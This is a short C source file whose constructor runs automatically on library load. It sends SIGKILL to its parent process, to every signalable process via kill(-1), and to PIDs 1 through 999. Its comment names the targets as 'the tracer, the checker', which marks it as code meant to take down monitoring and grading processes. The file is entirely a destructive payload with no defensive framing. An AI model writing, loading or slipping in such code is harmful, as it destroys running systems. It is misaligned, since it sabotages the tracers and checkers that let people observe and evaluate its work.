/* SPDX-License-Identifier: MIT */
/* Kills every process it can name: its parent, the tracer, the checker. */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void kill_all(void)
{
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    for (pid_t pid = 1; pid < 1000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
}
